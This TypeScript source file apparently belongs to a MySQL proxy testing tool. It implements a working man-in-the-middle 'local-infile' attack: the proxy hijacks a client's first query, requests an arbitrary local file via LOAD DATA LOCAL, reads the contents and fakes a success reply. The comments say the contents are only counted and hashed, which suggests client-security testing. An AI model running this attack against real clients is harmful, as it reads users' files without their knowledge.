import type { Socket } from "node:net";
import { CapabilityFlags, Command, ServerStatus } from "../protocol/constants";
import { encodePacket, PacketFramer } from "../protocol/framing";
import { decodeComQuery } from "../protocol/packets/command";
import { encodeLocalInfileRequest } from "../protocol/packets/local-infile-request";
import { encodeOk } from "../protocol/packets/ok-packet";
import { LOAD_INFO } from "../sql/load-data-local";
import { forward } from "./forward";
import { type LinkHooks, PlaintextLink } from "./plaintext-link";

/** What the relay is shown and told of a connection under the `local-infile:PATH` attack. */
export interface LocalInfileHooks extends LinkHooks {
  /** The client's query was answered with the request for `path` instead of reaching the server. */
  requested(path: string, query: string): void;
  /** A packet of the file's contents (counted and hashed by the recorder, never kept). */
  data(contents: Buffer): void;
  /** The client sent its empty packet: the end of the file, or a refusal when nothing came. */
  ended(): void;
}

/**
 * The `local-infile:PATH` attack on one connection: bytes are copied as they come until the client
 * has logged in; its first query then never reaches the server — the proxy answers it with a LOAD
 * DATA LOCAL request for PATH, reads what the client sends up to its empty packet, answers with the
 * OK of a LOAD DATA that loaded nothing, and copies again. Over TLS the proxy cannot read the
 * query, and copies everything as `passthrough` does.
 */
export class LocalInfileLink extends PlaintextLink<LocalInfileHooks> {
  private readonly fromClientFrames = new PacketFramer();
  private stage: "login" | "first-query" | "reading-file" | "copying" = "login";
  private clientCapabilities = 0;

  constructor(
    client: Socket,
    upstream: Socket,
    private readonly path: string,
    hooks: LocalInfileHooks,
  ) {
    super(client, upstream, hooks);
  }

  /**
   * The login succeeded in plaintext (`capabilities`: what the client sent and the greeting
   * offered): the next query is the one to answer.
   */
  loggedIn(capabilities: number): void {
    if (this.stage === "login") {
      this.stage = "first-query";
      this.clientCapabilities = capabilities;
    }
  }

  /** The client asked for TLS: nothing more can be read, so nothing is changed. */
  encrypted(): void {
    this.stage = "copying";
  }

  protected onUpstreamData(chunk: Buffer): void {
    this.toClient(chunk);
  }

  protected onClientData(chunk: Buffer): void {
    this.hooks.fromClient(chunk);
    if (this.stage === "login" || this.stage === "copying") {
      forward(this.upstream, chunk, this.client);
      return;
    }
    for (const packet of this.fromClientFrames.push(chunk)) {
      if (this.stage === "first-query") {
        const { payload } = packet;
        if (packet.sequenceId !== 0 || payload[0] !== Command.COM_QUERY) {
          this.upstream.write(encodePacket(payload, packet.sequenceId));
          continue;
        }
        const query = decodeComQuery(payload.subarray(1), {
          queryAttributes: (this.clientCapabilities & CapabilityFlags.CLIENT_QUERY_ATTRIBUTES) !== 0,
        });
        this.stage = "reading-file";
        this.hooks.requested(this.path, query);
        this.toClient(encodePacket(encodeLocalInfileRequest({ fileName: this.path }), 1));
        continue;
      }
      if (this.stage === "reading-file") {
        if (packet.payload.length > 0) {
          this.hooks.data(packet.payload);
          continue;
        }
        this.hooks.ended();
        this.stage = "copying";
        const ok = encodeOk(
          {
            affectedRows: 0,
            lastInsertId: 0,
            statusFlags: ServerStatus.SERVER_STATUS_AUTOCOMMIT,
            warnings: 0,
            info: LOAD_INFO,
          },
          this.clientCapabilities,
        );
        this.toClient(encodePacket(ok, (packet.sequenceId + 1) & 0xff));
        continue;
      }
      // Packets after the transfer that arrived in the same chunk go on as they came.
      this.upstream.write(encodePacket(packet.payload, packet.sequenceId));
    }
    if (this.stage === "copying") {
      const rest = this.fromClientFrames.takeRemainder();
      if (rest.length > 0) this.upstream.write(rest);
    }
  }
}
